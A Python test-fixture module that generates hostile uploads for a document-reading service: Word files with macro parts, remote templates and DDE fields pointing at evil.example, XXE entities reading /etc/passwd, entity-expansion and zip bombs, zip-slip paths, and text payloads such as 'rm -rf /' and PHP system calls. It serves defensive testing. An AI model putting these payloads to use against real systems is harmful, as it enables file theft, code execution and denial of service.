"""Files that nobody should send, and files that only look odd: made with python-docx, WeasyPrint, pikepdf and by hand."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable, Iterator

from policies.tests.reading.builders import SAMPLE, repacked, word, zipped
from policies.tests.reading.hostile_pdf import actions, broken

File = tuple[str, bytes]
_RELS = "word/_rels/document.xml.rels"
_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_WORD = word("Coats Policy", ("Aims", "Heading 1"), "1.1 Coats hang on pegs.")

_PARTS = (
    "word/vbaProject.bin",
    "word/VBAProject.BIN",
    "word/vbaData.xml",
    "vbaProject.bin",
    "word/activeX/activeX1.bin",
    "word/activeX/activeX1.xml",
)
_HELD = (
    "oleObject1.bin",
    "payload.exe",
    "run.vbs",
    "run.js",
    "page.html",
    "start.bat",
    "start.cmd",
    "saver.scr",
    "tool.dll",
    "app.hta",
)
_CHUNKS = (
    "word/afchunk1.html",
    "word/afchunk.mht",
    "word/afchunk2.rtf",
    "word/media/image1.svg",
    "customUI/run.js",
    "docProps/x.htm",
)


def hostile() -> Iterator[tuple[str, Callable[[], File]]]:
    """Each hostile file by name; it is made when it is asked for."""
    yield from _programs()
    yield from _relations()
    yield from _declarations()
    yield from _packing()
    yield from actions()
    yield from broken()
    yield from _others()


def _word(changed: dict[str, bytes]) -> Callable[[], File]:
    return lambda: ("policy.docx", repacked(_WORD, changed))


def _programs() -> Iterator[tuple[str, Callable[[], File]]]:
    for name in (*_PARTS, *(f"word/embeddings/{one}" for one in _HELD), *_CHUNKS):
        yield f"word part {name}", _word({name: b"x" * 100})
    for kind in (
        "application/vnd.ms-word.document.macroEnabled.main+xml",
        "application/vnd.ms-office.vbaProject",
        "application/vnd.ms-office.activeX+xml",
    ):
        yield (
            f"word type {kind}",
            _word(
                {
                    "[Content_Types].xml": f'<Types><Override PartName="/a" ContentType="{kind}"/></Types>'.encode()
                }
            ),
        )


def _relations() -> Iterator[tuple[str, Callable[[], File]]]:
    targets = (
        "http://192.0.2.1/t.dotm",
        "https://evil.example/t.dotm",
        "file:///etc/passwd",
        "\\\\192.0.2.1\\share\\t.dotm",
        "ftp://evil.example/a",
        "mhtml:http://evil.example!x",
    )
    for kind in ("attachedTemplate", "image", "oleObject", "frame", "subDocument"):
        for number, target in enumerate(targets):
            body = f'<Relationships><Relationship Id="r9" Type="{_TYPE}{kind}" Target="{target}" TargetMode="External"/></Relationships>'
            part = _RELS if number % 2 else "word/_rels/settings.xml.rels"
            yield f"word {kind} {target}", _word({part: body.encode()})
    template = f'<Relationships><Relationship Type="{_TYPE}attachedTemplate" Target="http://192.0.2.1/a%s" TargetMode="%s"/></Relationships>'
    yield "word relation in numbers", _word({_RELS: (template % ("", "&#69;xternal")).encode()})
    yield "word relation with a bracket", _word({_RELS: (template % ("&gt;>", "External")).encode()})
    yield "word relation in wide letters", _word({_RELS: (template % ("", "External")).encode("utf-16")})
    yield (
        "word relation in capitals",
        _word({"word/_rels/settings.xml.RELS": (template % ("", "External")).encode()}),
    )
    for field in (
        'DDEAUTO c:\\\\windows\\\\cmd.exe "/k"',
        'DDE excel "x"',
        'INCLUDETEXT "http://evil.example/a"',
        "IMPORT http://evil.example/a.png",
    ):
        body = f'<w:document {_W}><w:body><w:p><w:r><w:instrText xml:space="preserve"> {field} </w:instrText><w:t>Coats</w:t></w:r></w:p></w:body></w:document>'
        yield f"word field {field}", _word({"word/document.xml": body.encode()})


def _declarations() -> Iterator[tuple[str, Callable[[], File]]]:
    text = f"<w:document {_W}><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>"
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    for name, inside in {
        "of a file": '<!ENTITY x SYSTEM "file:///etc/passwd">',
        "of an address": '<!ENTITY x SYSTEM "http://192.0.2.1/x">',
        "of a parameter": '<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;',
        "that multiply": f'<!ENTITY l0 "ha">{laughs}<!ENTITY x "&l9;">',
        "that are long": f'<!ENTITY x "{"A" * 100_000}">',
    }.items():
        yield f"word entities {name}", _word({"word/document.xml": f"<!DOCTYPE d [{inside}]>{text}".encode()})
    yield "word entities in styles", _word({"word/styles.xml": b'<!DOCTYPE d [<!ENTITY x "y">]><a>&x;</a>'})
    yield (
        "word entities in numbering",
        _word({"word/numbering.xml": b'<!DOCTYPE d SYSTEM "http://192.0.2.1/a.dtd"><a/>'}),
    )
    yield "word deep nesting", _word({"word/document.xml": b"<a>" * 200_000 + b"</a>" * 200_000})
    yield "word many tags", _word({"word/document.xml": b"<w:p/>" * 900_000})


def _packing() -> Iterator[tuple[str, Callable[[], File]]]:
    for name in ("../../etc/cron.d/x", "/etc/x", "C:/x.exe", "word\\..\\..\\x", "word/../../x"):
        yield f"zip name {name}", _word({name: b"x"})
    yield "zip bomb", _word({"word/document.xml": b" " * 60_000_000})
    yield "zip bomb in styles", _word({"word/styles.xml": b" " * 40_000_000})
    yield "zip bomb in media", _word({f"word/media/{n}.png": b"\0" * 60_000_000 for n in range(5)})
    yield "zip of thousands", _word({f"word/media/{n}.png": b"" for n in range(2_500)})
    yield "zip with a link", lambda: ("policy.docx", _with_link())
    yield "zip with a name twice", lambda: ("policy.docx", _twice())
    yield "zip with a tail", lambda: ("policy.docx", _WORD + b"MZ\x90\x00" + b"\0" * 400)
    yield "zip with a page behind", lambda: ("policy.docx", _WORD + b"<html><script>alert(1)</script></html>")
    yield "zip said to be locked", lambda: ("policy.docx", _locked_zip())
    yield "zip with half missing", lambda: ("policy.docx", _WORD[: len(_WORD) // 2])
    yield (
        "zip with a false size",
        lambda: ("policy.docx", _WORD.replace(struct.pack("<I", 0x04034B50), b"PK\x03\x09", 2)),
    )
    for name in ("policy.xlsx", "policy.odt", "policy.zip"):
        inside = {
            "policy.xlsx": {"[Content_Types].xml": b"<a/>", "xl/workbook.xml": b"<a/>"},
            "policy.odt": {"mimetype": b"text"},
            "policy.zip": {"a.txt": b"a"},
        }[name]
        yield f"another zip {name}", lambda name=name, inside=inside: (name, zipped(inside))


def _others() -> Iterator[tuple[str, Callable[[], File]]]:
    starts = {
        "svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "xml": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        "page": b"<!DOCTYPE html><html><body>Policy</body></html>", "script": b"<script>alert(1)</script> Policy", "php": b"<?php system('id'); ?>", "shell": b"#!/bin/sh\nrm -rf /\n",
        "program": b"MZ\x90\x00" + bytes(200), "elf": b"\x7fELF" + bytes(200), "png": b"\x89PNG\r\n\x1a\n" + bytes(200), "jpeg": b"\xff\xd8\xff\xe0" + bytes(200), "gif": b"GIF89a" + bytes(200),
        "rtf": b"{\\rtf1\\object Policy}", "doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "postscript": b"%!PS-Adobe\n(x) run", "zeros": bytes(5000), "noise": bytes(range(256)) * 40,
        "comment": b"<!-- <script>x</script> --> Policy",
    }  # fmt: skip
    for name, data in starts.items():
        yield f"text {name}", lambda data=data: ("policy.txt", data)
    for tag in (
        "<script src=http://evil.example/x.js>",
        "<iframe src=//evil.example>",
        "<object data=x>",
        "<embed src=x>",
        "<svg onload=alert(1)>",
    ):
        yield f"text with {tag}", lambda tag=tag: ("policy.txt", SAMPLE.encode() + tag.encode())
    yield "text in a hurry", lambda: ("policy.txt", b"Nobody may run in the corridor.\n\n" * 70_000)
    yield "text named word", lambda: ("policy.docx", SAMPLE.encode())
    yield "empty", lambda: ("policy.txt", b"")


def _with_link() -> bytes:
    out = io.BytesIO(_WORD)
    with zipfile.ZipFile(out, "a") as archive:
        link = zipfile.ZipInfo("word/link")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def _twice() -> bytes:
    out = io.BytesIO(_WORD)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("WORD/Document.xml", b"<a/>")
    return out.getvalue()


def _locked_zip() -> bytes:
    """Every entry of the directory says that it is encrypted."""
    data = bytearray(_WORD)
    place = data.find(b"PK\x01\x02")
    while place >= 0:
        data[place + 8] |= 1
        place = data.find(b"PK\x01\x02", place + 4)
    return bytes(data)
